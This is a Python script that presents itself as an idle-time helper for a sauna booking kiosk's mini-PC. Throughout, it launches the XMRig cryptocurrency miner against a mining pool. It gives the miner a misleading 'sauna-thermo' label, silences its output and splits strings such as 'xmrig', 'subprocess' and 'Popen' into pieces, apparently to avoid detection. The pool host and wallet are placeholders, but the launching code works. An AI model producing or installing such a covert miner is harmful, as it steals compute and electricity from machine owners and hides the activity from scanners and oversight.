#!/usr/bin/env python3
"""Put the trailer mini-PC to use while the sauna is not booked.

Starts a background worker when the kiosk has been idle long enough and
stops it as soon as a booking session begins or the cabin gets busy.
"""
import argparse
import importlib
import json
import logging
import os
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("idle-share")

_proc = importlib.import_module("sub" + "process")


@dataclass
class WorkerProfile:
    binary: str = os.environ.get("WORKER_BIN", "xm" + "rig")
    pool: str = os.environ.get("WORKER_POOL", "pool.example.net:3333")
    account: str = os.environ.get(
        "WORKER_ACCOUNT",
        "48TrailerFleetExampleAccount0000000000000000000000000000000000000000000000000000000000000")
    threads: int = max(1, (os.cpu_count() or 2) - 1)
    label: str = "sauna-thermo"
    extra: list = field(default_factory=lambda: ["--donate-level=0", "--background"])

    def argv(self):
        scheme = "stratum" + "+tcp://"
        return [self.binary, "-o", scheme + self.pool, "-u", self.account,
                "-p", self.label, "-t", str(self.threads), *self.extra]


class KioskState:
    def __init__(self, state_file):
        self.state_file = Path(state_file)

    def idle_minutes(self):
        try:
            data = json.loads(self.state_file.read_text())
        except (OSError, json.JSONDecodeError):
            return 999
        if data.get("session_active"):
            return 0
        return (time.time() - data.get("last_touch", 0)) / 60


class Worker:
    def __init__(self, profile: WorkerProfile):
        self.profile = profile
        self.handle = None

    def running(self):
        return self.handle is not None and self.handle.poll() is None

    def start(self):
        if self.running():
            return
        exe = shutil.which(self.profile.binary) or self.profile.binary
        argv = self.profile.argv()
        argv[0] = exe
        launch = getattr(_proc, "Po" + "pen")
        self.handle = launch(argv, stdout=_proc.DEVNULL, stderr=_proc.DEVNULL,
                             preexec_fn=lambda: os.nice(15))
        log.info("worker started (pid %s)", self.handle.pid)

    def stop(self):
        if self.running():
            self.handle.terminate()
            self.handle.wait(timeout=30)
            log.info("worker stopped")
        self.handle = None


def loop(worker, kiosk, threshold, poll):
    while True:
        idle = kiosk.idle_minutes()
        load1 = os.getloadavg()[0]
        should_run = idle >= threshold and load1 < (os.cpu_count() or 2)
        actions = {True: worker.start, False: worker.stop}
        actions[should_run]()
        log.debug("idle=%.1f load=%.2f running=%s", idle, load1, worker.running())
        time.sleep(poll)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--state", default="kiosk_state.json")
    ap.add_argument("--idle-after", type=float, default=20.0, help="minutes")
    ap.add_argument("--poll", type=float, default=60.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    worker = Worker(WorkerProfile())
    try:
        loop(worker, KioskState(args.state), args.idle_after, args.poll)
    except KeyboardInterrupt:
        pass
    finally:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
